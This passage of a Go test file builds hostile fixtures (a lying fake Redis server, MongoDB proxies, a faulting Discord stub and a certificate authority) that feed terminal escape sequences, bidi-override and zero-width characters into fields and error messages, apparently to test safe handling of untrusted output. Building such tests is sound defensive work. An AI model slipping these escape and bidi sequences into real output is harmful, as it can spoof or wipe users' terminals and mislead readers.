	line := strings.NewReplacer("\r", "_", "\n", "_").Replace(joined())
	refuse := func(string) string { return "-ERR " + line + "\r\n" }
	w.words["REFUSINGADDR"] = fakeRedis(t, refuse)
	w.words["REFUSING"] = "redis://" + w.words["REFUSINGADDR"]
	info := "redis_version:" + line + "\r\nredis_mode:" + line + "\r\nrole:" + line + "\r\nmaster_host:" + line + "\r\nrun_id:" + line + "\r\ndb0:keys=1,expires=" + line + "\r\n"
	w.words["LIAR"] = "redis://" + fakeRedis(t, func(command string) string {
		switch command {
		case "PING":
			return "+PONG\r\n"
		case "INFO":
			return "$" + strconv.Itoa(len(info)) + "\r\n" + info + "\r\n"
		}
		return refuse(command)
	})

	real := ferretdb.Start(t)
	valid := strings.ToValidUTF8(joined(), "_")
	w.words["LYING"] = mongoproxy.Start(t, real.URI, mongoproxy.Options{Hook: func(_ context.Context, c mongoproxy.Command) bson.D {
		switch c.Name {
		case "find", "aggregate", "listCollections", "count":
			return bson.D{{Key: "ok", Value: 0}, {Key: "errmsg", Value: valid}, {Key: "code", Value: 96}, {Key: "codeName", Value: valid}}
		}
		return nil
	}}).URI
	w.words["PROGRESS"] = mongoproxy.Start(t, real.URI, mongoproxy.Options{Hook: func(_ context.Context, c mongoproxy.Command) bson.D {
		if c.Name != "find" || c.Get("find") != mongostore.CheckpointCollection {
			return nil
		}
		doc := bson.D{{Key: "_id", Value: valid}, {Key: "scope", Value: valid}, {Key: "host", Value: valid}, {Key: "pid", Value: int64(7)}, {Key: "run", Value: valid},
			{Key: "heartbeat", Value: time.Now().Add(-time.Hour)}, {Key: "rejects_file", Value: valid}, {Key: "positions", Value: bson.A{bson.D{{Key: "name", Value: valid}, {Key: "value", Value: valid}}}},
			{Key: "state", Value: []byte(`{}`)}}
		return firstBatch(c, bson.A{doc})
	}}).URI

	// A server whose database is whatever it is called, with one sweep in its journal.
	w.words["DATABASE"] = hostileMark + "\u202e\u2066\u200b`" // control characters are refused
	w.words["ANY"] = mongoproxy.Start(t, real.URI, mongoproxy.Options{Hook: func(_ context.Context, c mongoproxy.Command) bson.D {
		if c.Database != w.words["DATABASE"] {
			return nil
		}
		docs := bson.A{}
		filter, _ := c.Get("filter").(bson.D)
		if c.Get("find") == mongostore.SweepsCollection && len(filter) == 0 {
			docs = bson.A{sweepDocument("hostile", "done")}
		}
		return firstBatch(c, docs)
	}}).URI

	for word, fault := range map[string]discordserver.Fault{
		"DISCORD":     {Status: 400, Header: map[string]string{"Content-Type": "application/json"}, Body: `{"message": ` + jsonText(t, valid) + `, "code": 1}`},
		"DISCORDDOWN": {Status: 502, Header: map[string]string{"Content-Type": "text/html"}, Body: valid},
	} {
		faults := make(map[int]discordserver.Fault)
		for i := range 100 {
			faults[i+1] = fault
		}
		w.words[word] = discordserver.Start(t, discordserver.Options{Faults: faults}).URL
	}

	ca := certs.NewCA(t, hostileMark+"\x1b[2J\u009b\u202e")
	w.words["CA"] = certs.NewCA(t, "another").File
	w.words["TLS"] = certs.Front(t, w.words["REFUSINGADDR"], ca.Sign([]string{"redis.example"}), &tls.Config{})
}

// firstBatch answers a command with documents.
func firstBatch(c mongoproxy.Command, docs bson.A) bson.D {
	cursor := bson.D{{Key: "id", Value: int64(0)}, {Key: "ns", Value: c.Database + ".x"}, {Key: "firstBatch", Value: docs}}
	return bson.D{{Key: "ok", Value: 1}, {Key: "n", Value: 0}, {Key: "cursor", Value: cursor}}
}

// sweepDocument is a sweep as the journal has it, with a hostile text in every field of text.
func sweepDocument(id, h string) bson.D {
	return bson.D{{Key: "_id", Value: id}, {Key: "state", Value: h}, {Key: "host", Value: h}, {Key: "pid", Value: int64(7)}, {Key: "run", Value: h}, {Key: "version", Value: h},
		{Key: "options", Value: h}, {Key: "started_at", Value: time.Now()}, {Key: "changes", Value: int64(1)}}
}

func jsonText(t *testing.T, text string) string {
	b, err := json.Marshal(text)
	if err != nil {
		t.Fatal(err)
	}
	return string(b)
}

// fakeRedis starts a server that speaks Redis' protocol and answers as it is told. It returns its address.
func fakeRedis(t *testing.T, answer func(command string) string) string {
	listener, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { listener.Close() })
	go func() {
		for {
			conn, err := listener.Accept()
			if err != nil {
				return
			}
			go func() {
				defer conn.Close()
				in := bufio.NewReader(conn)
				for {
					command, err := readCommand(in)
					if err != nil {
						return
					}
					if _, err := io.WriteString(conn, answer(command)); err != nil {
						return
					}
				}
			}()
		}
	}()
	return listener.Addr().String()
}

// readCommand reads a command and returns its name.
func readCommand(in *bufio.Reader) (name string, err error) {
	head, err := in.ReadString('\n')
	if err != nil {
		return "", err
	}
	n, err := strconv.Atoi(strings.TrimSpace(strings.TrimPrefix(head, "*")))
	for range n {
		if _, err = in.ReadString('\n'); err != nil { // the length
			return "", err
		}
		word, err := in.ReadString('\n')
		if err != nil {
			return "", err
		}
		name = cmp.Or(name, strings.ToUpper(strings.TrimSpace(word)))
	}
	return name, err
}
